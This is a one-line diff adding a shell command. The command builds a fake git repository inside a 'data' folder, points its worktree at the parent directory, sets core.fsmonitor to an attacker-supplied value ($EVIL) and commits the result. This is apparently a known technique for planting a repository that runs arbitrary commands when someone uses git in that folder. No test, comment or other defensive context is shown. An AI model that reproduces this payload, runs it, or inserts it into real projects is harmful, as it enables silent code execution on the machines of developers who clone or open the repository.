@@ -1,0 +1,1 @@
+mkdir -p data/objects data/refs && echo "ref: refs/heads/main" > data/HEAD && printf "[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = %s\n" "$EVIL" > data/config && git add -A && git commit -qm data
